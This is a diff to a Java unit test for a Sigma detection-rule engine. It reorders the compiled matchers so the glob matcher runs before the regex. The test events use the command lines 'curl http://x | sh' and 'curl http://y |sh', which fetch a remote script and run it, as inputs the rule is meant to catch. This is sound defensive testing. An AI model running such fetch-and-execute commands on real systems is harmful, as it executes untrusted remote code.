@@ -215,16 +215,17 @@ class SigmaSemanticsTest {
         condition: sel
         """));
     DetectionRule rule = rules.detection(0);
-    // The compiled tree holds ready matchers: a java.util.regex.Pattern and a glob, built by the loader.
+    // The compiled tree holds ready matchers: a java.util.regex.Pattern and a glob, built by the loader,
+    // the cheaper glob first.
     Search.All sel = (Search.All) rule.search();
-    ValueMatcher regex = ((Search.FieldValues) sel.parts()[0]).values()[0];
+    ValueMatcher regex = ((Search.FieldValues) sel.parts()[1]).values()[0];
     assertThat(regex).isInstanceOf(ValueMatcher.Regex.class);
     var pattern = ((ValueMatcher.Regex) regex).pattern();
     assertThat(rules.match(Map.of("CommandLine", "curl http://x | sh", "Image", "/usr/bin/curl"))).containsExactly("r");
     assertThat(rules.match(Map.of("CommandLine", "curl http://y |sh", "Image", "/usr/bin/curl"))).containsExactly("r");
-    assertThat(((ValueMatcher.Regex) ((Search.FieldValues) ((Search.All) rules.detection(0).search()).parts()[0]).values()[0]).pattern())
+    assertThat(((ValueMatcher.Regex) ((Search.FieldValues) ((Search.All) rules.detection(0).search()).parts()[1]).values()[0]).pattern())
         .as("matching reuses the same compiled pattern").isSameAs(pattern);
-    assertThat(((Search.FieldValues) sel.parts()[1]).values()[0]).isInstanceOf(GlobMatcher.class);
+    assertThat(((Search.FieldValues) sel.parts()[0]).values()[0]).isInstanceOf(GlobMatcher.class);
   }
 
   @Test
